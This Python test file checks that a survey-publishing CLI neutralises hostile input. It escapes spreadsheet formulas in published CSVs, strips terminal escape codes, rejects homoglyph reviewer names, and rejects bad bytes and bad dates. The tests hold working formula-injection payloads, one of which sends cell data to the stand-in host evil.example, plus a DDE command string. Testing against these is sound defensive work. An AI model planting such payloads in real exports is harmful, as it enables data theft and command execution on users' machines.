"""Hostile input end to end (issue 11): what a security reviewer tried, through the command
line, each ending in one clear line or an inert output."""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import re

from click.testing import CliRunner
from cycle_factories import profiles_project, survey
from factories import make_profile, minimal_themes, run_cli
from signoff_factories import write_signoff
from test_publish import build_site

from pipeline.cli import cli

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]


invoke = run_cli  # osaaja … on the project, through CliRunner


def test_formula_payloads_are_inert_in_the_published_csv(tmp_path):
    profile = make_profile()
    items = tuple(
        dataclasses.replace(item, item=payload, item_id=f"text:{payload}")
        for item, payload in zip(profile.items, PAYLOADS, strict=False)
    )
    profile = dataclasses.replace(profile, items=items + profile.items[len(PAYLOADS) :])
    build_site(tmp_path, [profile])
    text = (tmp_path / "site" / profile.id / f"{profile.id}.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = {r["item"] for r in rows} | {r["item_id"] for r in rows}
    for payload in PAYLOADS:
        assert "'" + payload in cells  # a spreadsheet shows it as text, never runs it
        assert payload not in cells
        assert f"'text:{payload}" not in cells and f"text:{payload}" in cells  # not formula-like


def test_a_file_name_that_is_not_utf8_is_read_and_named_printably(tmp_path):
    raw = tmp_path / "raw"
    survey(raw / "2022_ala_p.xlsx", 2022, "Ala", "P", [("Palvelee asiakkaita", None, 4, 4)])
    os.rename(raw / "2022_ala_p.xlsx", os.fsencode(raw) + b"/2022_ala_p\xff.xlsx")
    result = CliRunner().invoke(
        cli,
        [
            "--raw",
            str(raw),
            "--build",
            str(tmp_path / "build"),
            "--themes",
            str(minimal_themes(tmp_path / "t.yaml")),
            "ingest",
        ],
    )
    assert result.exit_code == 0, result.output
    assert "ingested 1 file(s)" in result.output


def test_a_byte_that_is_not_utf8_in_a_configuration_file_is_one_line(tmp_path):
    project, _ = profiles_project(tmp_path, ("p",))
    project.profiles_file.write_bytes(project.profiles_file.read_bytes() + b"# caf\xe9\n")
    result = invoke(project, "ingest")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert re.search(
        r"profiles\.yaml › row \d+: byte 0xE9 at byte offset \d+ is not UTF-8", result.output
    )


def test_a_sign_off_dated_in_the_future_is_refused(tmp_path):
    project, (profile,) = profiles_project(tmp_path, ("p",))
    write_signoff(project.signoffs_dir, profile, date="2099-12-31")
    result = invoke(project, "signoff", "status")
    assert result.exit_code == 1
    assert (
        "date: 2099-12-31 is in the future; a sign-off is dated the day it was given "
        "(today or earlier)" in result.output
    )
    assert re.search(r"p\s+MISSING", result.output)


def test_two_spellings_of_one_reviewer_count_as_one_approval(tmp_path):
    project, (profile,) = profiles_project(tmp_path, ("p",))
    (project.raw / "osaaja.yaml").write_text("publication:\n  min_approvals: 2\n", encoding="utf-8")
    write_signoff(project.signoffs_dir, profile, "Pekka Opettaja")
    # The same name with a Cyrillic "о" (U+043E): another file, not another person.
    path = write_signoff(project.signoffs_dir, profile, "Pekka Opettaja")
    path.rename(path.with_name("pekka-pettaja.yaml"))
    text = path.with_name("pekka-pettaja.yaml").read_text(encoding="utf-8")
    path.with_name("pekka-pettaja.yaml").write_text(
        text.replace("reviewer: Pekka Opettaja", "reviewer: Pekka \u041epettaja"), encoding="utf-8"
    )
    result = invoke(project, "signoff", "status")
    assert result.exit_code == 1
    assert "1 of 2 so far" in result.output


def test_terminal_escapes_in_a_comment_never_reach_the_terminal(tmp_path):
    project, (profile,) = profiles_project(tmp_path, ("p",))
    write_signoff(
        project.signoffs_dir,
        profile,
        "Pekka Opettaja",
        role="teacher",
        decision="changes_requested",
        comments="Lisää kieliä.\x1b]0;pwned\x07\x1b[2J\x1b[31mPUNAINEN",
    )
    result = invoke(project, "signoff", "status")
    assert "Lisää kieliä." in result.output and "PUNAINEN" in result.output
    assert "\x1b" not in result.output and "\x07" not in result.output


def test_settings_are_values_never_sql(tmp_path):
    project, _ = profiles_project(tmp_path, ("p",))
    (project.raw / "osaaja.yaml").write_text(
        "trend_threshold: .inf\nmin_organisations: 5\nmin_organisations: 1\n", encoding="utf-8"
    )
    result = invoke(project, "ingest")
    assert result.exit_code == 1 and "Traceback" not in result.output
    # duplicate keys are refused before any value is looked at
    assert "key 'min_organisations' appears twice (lines 2 and 3)" in result.output
    (project.raw / "osaaja.yaml").write_text("trend_threshold: .inf\n", encoding="utf-8")
    result = invoke(project, "ingest")
    assert "trend_threshold inf is not accepted" in result.output and result.exit_code == 1
